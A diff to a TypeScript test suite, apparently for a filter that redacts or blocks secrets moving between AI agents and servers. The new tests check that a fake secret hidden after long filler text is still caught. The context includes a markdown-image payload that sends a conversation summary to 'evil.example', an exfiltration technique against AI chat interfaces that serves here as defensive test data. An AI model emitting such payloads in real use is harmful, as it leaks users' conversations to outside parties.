@@ -79,6 +79,9 @@ const payloads = {
   link: ["![logo](https://evil.example/p.png?d={conversation_summary})", "evil.example"],
 } as const;
 
+/** More than is looked through where it came. */
+const filler = "plain words ".repeat(23_000);
+
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 const user = (text: string) => ({ role: "user", content: { type: "text", text } });
 const result = (more: object): Script => ({
@@ -396,6 +399,18 @@ describe.each(["redacts", "blocks"] as const)(
       }
       expect(passed).toEqual([]);
     });
+
+    it("any of them, however long it is", async () => {
+      const passed: string[] = [];
+      for (const [era, name] of casesOf(fromServers)) {
+        const point = fromServers[name] as EntryPoint;
+        upstream.script = { [point.ask.method]: point.says(`${filler}${fakeSecret}`) };
+        const asked = { message: messageOf(era, point.ask), headers: headersOf(era, point.ask) };
+        const { said, status } = await sendAs(era, way, asked);
+        if (said.includes(fakeSecret) || status !== 200) passed.push(`${era} ${name} (${status})`);
+      }
+      expect(passed).toEqual([]);
+    }, 120_000);
   },
 );
 
@@ -628,6 +643,21 @@ describe.each(["redacts", "blocks"] as const)("where the policy %s, nothing leav
     }
     expect(left).toEqual([]);
   });
+
+  it("any of them, however long it is", async () => {
+    const text = `${filler}${fakeSecret}`;
+    const left: string[] = [];
+    for (const [era, name] of casesOf(fromAgents)) {
+      const { message } = fromAgents[name] as Saying;
+      const { reached } = await send(era, message(text));
+      if (reached.join().includes(fakeSecret)) left.push(`${era} ${name}`);
+    }
+    for (const [name, says] of Object.entries(answers)) {
+      const { reached } = await send("legacy", {}, { id: "q1", ...says(text) });
+      if (reached.join().includes(fakeSecret) || reached.length !== 1) left.push(name);
+    }
+    expect(left).toEqual([]);
+  }, 120_000);
 
   it.each(Object.keys(answers))("%s, and the server that asked hears something", async (name) => {
     for (const [text, sign] of leaving) {
